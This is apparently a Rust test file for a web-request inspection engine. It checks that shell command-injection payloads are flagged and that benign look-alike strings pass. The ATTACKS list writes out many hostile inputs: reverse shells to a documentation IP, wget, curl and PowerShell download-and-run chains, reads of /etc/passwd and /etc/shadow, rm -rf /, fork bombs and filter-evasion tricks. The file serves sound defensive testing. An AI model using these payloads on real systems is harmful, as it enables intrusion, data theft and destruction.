@@ -1,1 +1,326 @@
+//! What is a command for a shell, and what only looks like one.
 
+use std::sync::{Arc, LazyLock};
+
+use http::{HeaderMap, Method};
+use proptest::prelude::*;
+
+use crate::inspect::{Engine, Head, Profile, Report, RuleFile, Settings};
+
+static PROFILE: LazyLock<Profile> = LazyLock::new(|| {
+    let rules = RuleFile::ready_made().expect("ready-made rules");
+    let engine = Arc::new(Engine::new(rules).expect("compiled"));
+    Profile::new(engine, Settings::default()).expect("a profile")
+});
+
+/// What is said of a parameter with this value.
+pub(in crate::inspect::detect) fn judge_query(name: &str, value: &[u8]) -> Report {
+    let encoded = percent_encoding::percent_encode(value, percent_encoding::NON_ALPHANUMERIC);
+    let query = format!("{name}={encoded}");
+    let headers = HeaderMap::new();
+    PROFILE.judge(&Head { method: &Method::GET, path: "/x", query: Some(&query), headers: &headers }, None)
+}
+
+/// What is said of a path.
+pub(in crate::inspect::detect) fn judge_path(path: &str) -> Report {
+    let headers = HeaderMap::new();
+    PROFILE.judge(&Head { method: &Method::GET, path, query: None, headers: &headers }, None)
+}
+
+/// What is said of a JSON body with this value.
+pub(in crate::inspect::detect) fn judge_json(name: &str, value: &str) -> Report {
+    let mut headers = HeaderMap::new();
+    headers.insert("content-type", http::HeaderValue::from_static("application/json"));
+    let body = serde_json::json!({ name: value }).to_string();
+    PROFILE.judge(&Head { method: &Method::POST, path: "/x", query: None, headers: &headers }, Some(body.as_bytes()))
+}
+
+/// The score that rules of these classes come to.
+fn ours(report: &Report) -> u32 {
+    report.findings.iter().filter(|finding| finding.rule.starts_with("shell.")).map(|finding| finding.score).sum()
+}
+
+const ATTACKS: &[&str] = &[
+    ";id",
+    "|id",
+    "||id",
+    "&&id",
+    "`id`",
+    "$(id)",
+    "127.0.0.1;id",
+    "127.0.0.1|id",
+    "127.0.0.1 && id",
+    "x;ls",
+    "x.png; ls -la",
+    "1;cat /etc/passwd",
+    "1 | cat /etc/passwd",
+    "127.0.0.1\nid",
+    "127.0.0.1\n/usr/bin/id\n",
+    "a\r\nwhoami",
+    ";/usr/bin/id",
+    "|/bin/ls -al",
+    "';id;'",
+    "\";id;\"",
+    "x';cat flag.txt;#",
+    "a);id",
+    "x || whoami",
+    "x & whoami",
+    "& whoami /priv",
+    "; ping -c 5 127.0.0.1",
+    "& ping -n 30 127.0.0.1 &",
+    "`ping -c 3 x.example`",
+    ";sleep 10",
+    "|sleep 5",
+    "$(sleep 5)",
+    "&& sleep 5 &&",
+    "1;sleep${IFS}9;#${IFS}",
+    ";echo 'x'",
+    "& echo %username%",
+    ";nslookup x.example",
+    "$(nslookup x.example)",
+    "`nslookup x.example`",
+    "|curl http://x.example/`whoami`",
+    ";wget http://x.example/a -O /tmp/a;chmod 777 /tmp/a;/tmp/a",
+    "cd /tmp; wget http://192.0.2.1/a.sh; sh a.sh",
+    ";rm -rf /",
+    "; rm -rf /*",
+    ";uname -a",
+    "|uname",
+    "$(uname)",
+    ";ps aux | grep root",
+    ";netstat -an",
+    ";ifconfig",
+    "|ipconfig /all",
+    "& dir c:\\",
+    "| type c:\\windows\\win.ini",
+    "& net user x y /add",
+    "| net localgroup administrators",
+    ";cat$IFS/etc/passwd",
+    ";cat${IFS}/etc/passwd",
+    ";cat</etc/passwd",
+    ";{cat,/etc/passwd}",
+    "{cat,/etc/passwd}",
+    ";w'h'oami",
+    ";w\"h\"oami",
+    ";w\\ho\\am\\i",
+    ";who$@ami",
+    ";who$()ami",
+    "w'h'o'am'i",
+    "c'a't /etc/passwd",
+    "ca\\t /etc/passwd",
+    "c$@at /etc/passwd",
+    "/???/c?t /???/p??swd",
+    ";/b?n/cat /etc/passwd",
+    ";/bin/c?t x",
+    "cat ${HOME:0:1}etc${HOME:0:1}passwd",
+    ";$'\\x63\\x61\\x74' /etc/passwd",
+    "a=nc;$a -e /bin/sh 10.0.0.1 4444",
+    ";bash<<<$(base64 -d<<<aWQ=)",
+    ";echo aWQ= | base64 -d | sh",
+    "echo aWQ=|base64 -d|bash",
+    ";xxd -r -p <<< 6964",
+    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
+    "nc -e /bin/sh 192.0.2.1 4444",
+    ";nc 192.0.2.1 4444 -e /bin/bash",
+    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
+    ";python -c 'import os'",
+    ";perl -e 'print 1'",
+    "python3 -c \"import pty\"",
+    ";php -r '$s=fsockopen(1);'",
+    "socat tcp:192.0.2.1:80 exec:sh",
+    "find . -exec /bin/sh \\;",
+    "awk 'BEGIN {system(\"/bin/sh\")}' /etc/passwd",
+    ";tar -cf /dev/null x --checkpoint=1",
+    "vim -c ':!/bin/sh'",
+    "sudo -u root id",
+    "env x=1 sh -c id",
+    "x;sudo cat /etc/shadow",
+    "() { :;}; /bin/bash -c id",
+    "() { _; } >_[$($())] { id; }",
+    ":(){ :|:& };:",
+    "bomb() { bomb | bomb & }; bomb",
+    "cmd /c dir",
+    "cmd.exe /c whoami",
+    "powershell -enc aQBkAA==",
+    "powershell -c IEX(New-Object Net.WebClient).DownloadString('http://x')",
+    "p^ow^ers^hell -c whoami",
+    "@^p^o^w^e^r^shell -c x",
+    "& certutil -urlcache -f http://x.example/a.exe a.exe",
+    "|bitsadmin /transfer x http://x.example/a c:\\a",
+    "rundll32 javascript:x,y",
+    "wmic process list /format:x",
+    "& reg add HKLM\\x /v y",
+    "for /d %x in (*) do type %x",
+    "if exist c:\\x.txt echo yes",
+    "IF \"%x%\"==\"1\" echo y",
+    "Invoke-Expression $x",
+    ";Get-Process | out-file x.txt",
+    "/bin/sh -c id",
+    "/usr/bin/perl -e 'x'",
+    "c:\\windows\\system32\\cmd.exe /c dir",
+    "perf --version",
+    "ls -la /var",
+    "cat /etc/hosts",
+    "cat ../../config.php",
+    "curl -s http://x.example | sh",
+    "wget http://x.example/x.sh",
+    "dd if=/etc/passwd of=/tmp/x",
+    "alias ls=id",
+    ">/tmp/x",
+    "$SHELL -c id",
+    "${SHELL} -c id",
+    "~+",
+    "!-1",
+    "x|xargs cat",
+    "1;busybox nc -l",
+    "time sh -c id",
+    "nohup curl http://x.example",
+    "x`cat<<<id`",
+    "\\ls",
+    "'cat' /etc/passwd",
+    "<(cat /etc/passwd)",
+    "kill -9 1",
+    ";kill 1",
+    ";.shell id",
+];
+
+const HONEST: &[&str] = &[
+    "R&D; sales",
+    "Tom & Jerry",
+    "Use `git status` to see what changed",
+    "cat; dog",
+    "Read more: find out",
+    "time flies like an arrow",
+    "kill the lights; sleep well",
+    "A | B",
+    "a || b",
+    "name;id;date",
+    "name|id|env",
+    "sort=-date",
+    "price < 5 & size > 3",
+    "Fish & chips",
+    "C:\\Users\\bob\\file.txt",
+    "make install failed",
+    "x=1; y=2; z=3",
+    "color: red; top: 5px; clip: auto",
+    "font: 12px; cursor: pointer",
+    "a(); test(); sort();",
+    "AT&T; Johnson & Johnson",
+    "https://example.com/?a=1&id=5&sort=asc&find=x",
+    "text/html; q=0.8, */*; q=0.1",
+    "multipart/form-data; boundary=x",
+    "We need to find a better way to do this; more tests help.",
+    "who's there?",
+    "I'd like; I'd want",
+    "it's; don't",
+    "| id | name |\n|----|------|\n| 1  | x    |",
+    "$100; $200 each",
+    "${AMOUNT} due on {{DATE}}",
+    "#{name} & co",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:1.0)",
+    "curl/8.7.1",
+    "python-requests/2.32.3",
+    "git/2.43.0",
+    "Wget/1.21",
+    "Subject: host; user; group",
+    "first; last",
+    "head & tail",
+    "cut & paste",
+    "less is more",
+    "top 10 & more",
+    "Sort by date; filter by id 5",
+    "e.g. `ls`, `cat` and `rm` are commands",
+    "Try running `ls` first, then `pwd`.",
+    "a < b && c > d",
+    "x => x && y",
+    "function add(a,b){return a+b;}",
+    "function () { return 1; }",
+    "() => { go(); }",
+    "!important",
+    "Hello!Welcome",
+    "2 * (3 + 4) | 0",
+    "SELECT 1; SET x = 5",
+    "--flag=value --dry-run",
+    "E=mc^2; H2O -> H+ + OH-",
+    "time express",
+    "time null space",
+    "find x for y",
+    "-created_at",
+    "~user/file.txt",
+    "~1.2.3",
+    "^1.0.0",
+    ">=1.2.0,<2.0.0",
+    "/usr",
+    "docs/install.md",
+    "man gönnt sie sich; man sagt",
+    "{id,name}",
+    "{a,b,c}",
+    "{1,3}",
+    "s/{id}/x",
+    "\\alpha",
+    "At any moment we can make a decision",
+    "ls",
+    "The install script; see docs",
+    "env: prod; host: x",
+    "tag:foo|tag:bar",
+    "a;b;c",
+    "What is `id` for?",
+    "Date: Mon, 1 Jan",
+    "if foo == bar then baz",
+    "if a then b else c",
+    "for x in (1, 2, 3)",
+    "Exec team meeting; who is coming?",
+    "top-left | top-right",
+    "who? what; when",
+];
+
+#[test]
+fn commands_are_found() {
+    let missed: Vec<_> = ATTACKS.iter().filter(|value| ours(&judge_query("q", value.as_bytes())) < 5).collect();
+    assert!(missed.is_empty(), "missed: {missed:#?}");
+}
+
+#[test]
+fn what_only_looks_like_commands_passes() {
+    let stopped: Vec<_> = HONEST
+        .iter()
+        .flat_map(|value| [judge_query("q", value.as_bytes()), judge_json("note", value)].map(|report| (value, report)))
+        .filter(|(_, report)| ours(report) >= 5)
+        .map(|(value, report)| (value, report.findings))
+        .collect();
+    assert!(stopped.is_empty(), "stopped: {stopped:#?}");
+}
+
+#[test]
+fn names_are_sorted_and_found() {
+    for name in ["awk", "whoami", "zypper", "%comspec%"] {
+        assert!(super::commands::kind_of(name.as_bytes()).is_some(), "{name}");
+    }
+    assert!(super::commands::is_sorted());
+    assert!(super::commands::kind_of(b"dog").is_none());
+}
+
+#[test]
+fn the_name_of_a_parameter_tells_that_it_is_run() {
+    for (name, value, want) in [
+        ("cmd", "wget x", true),
+        ("code", "ansible-vault decrypt x", true),
+        ("q", "id", false),
+        ("sort", "date", false),
+        ("cmd", "list", false),
+    ] {
+        assert_eq!(judge_query(name, value.as_bytes()).is_attack, want, "{name}={value}");
+    }
+}
+
+proptest! {
+    #[test]
+    fn no_bytes_panic(value in proptest::collection::vec(any::<u8>(), 0..200)) {
+        judge_query("q", &value);
+    }
+
+    #[test]
+    fn no_text_of_shells_panics(value in "[;|&`$(){}<>!~^%'\"\\\\ a-d/.?*\\[\\]\n=-]{0,120}") {
+        judge_query("cmd", value.as_bytes());
+    }
+}
